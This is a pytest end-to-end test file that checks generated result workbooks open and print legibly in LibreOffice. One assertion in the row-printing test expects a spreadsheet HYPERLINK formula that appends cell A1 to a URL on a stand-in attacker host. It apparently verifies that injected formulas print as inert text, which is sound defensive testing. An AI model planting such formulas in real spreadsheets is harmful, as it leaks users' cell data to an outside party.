"""LibreOffice opens result sheets, and prints them whole and legible."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from fastrak_workbook import layout
from fastrak_workbook.graft.results import graft_results
from fastrak_workbook.render.sheets import result_sheets
from tests.e2e.libreoffice import convert, pdf_pages
from tests.unit.workbook import sample_workbooks as books
from tests.unit.workbook.sample_results import empty_results, sample_results

RESULTS = sample_results(12, 15)
PAGES = {"Summary": 1, "Rebalance": 5, "Trades": 3, "Unassigned": 1, "Checks": 1, "Run": 1}


@pytest.fixture(scope="session")
def printed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[str]]:
    """The pages of each result sheet, by the name in their footers."""
    folder = tmp_path_factory.mktemp("printed")
    source = Path(folder, "results.xlsx")
    source.write_bytes(graft_results(books.plain_workbook("Holdings", "Accounts"), RESULTS))
    return by_sheet(pdf_pages(convert(source, folder)))


def by_sheet(pages: list[str]) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for page in pages:
        footer = re.search(r"^\s*(\w+)\s+Page \d+ of \d+\s*$", page, re.MULTILINE)
        if footer:
            found.setdefault(footer[1], []).append(page)
    return found


def test_every_sheet_is_printed_on_few_pages(printed):
    assert list(printed) == list(PAGES)
    for name, pages in printed.items():
        assert len(pages) <= PAGES[name], name


def test_no_number_is_too_wide_for_its_column(printed):
    assert not [name for name, pages in printed.items() if any("##" in page for page in pages)]


@pytest.mark.parametrize("table", layout.RESULT_TABLES, ids=lambda table: table.sheet)
def test_every_word_of_every_heading_is_whole_on_every_page(printed, table):
    for page in printed[table.sheet]:
        words = set(page.split())
        missing = [w for column in table.columns for w in column.header.split() if w not in words]
        assert not missing


def test_every_row_is_printed(printed):
    text = " ".join(" ".join(page.split()) for page in printed["Rebalance"])
    assert all(str(account) in text for account in RESULTS.rebalance["account_id"])
    assert '=HYPERLINK("http://evil.example/?"&A1,"Fund")' in text


def test_lines_above_tables_are_printed_whole(printed):
    for sheet in result_sheets(RESULTS):
        first = " ".join(printed[sheet.name][0].split())
        assert all(" ".join(line.split()) in first for line in sheet.lines)


def test_an_empty_run_is_printed_too(tmp_path):
    source = tmp_path / "empty.xlsx"
    source.write_bytes(graft_results(books.moved_workbook(), empty_results()))
    pages = by_sheet(pdf_pages(convert(source, tmp_path)))
    assert {name: len(found) for name, found in pages.items()} == dict.fromkeys(PAGES, 1)
    assert "Nothing to report" in pages["Trades"][0]
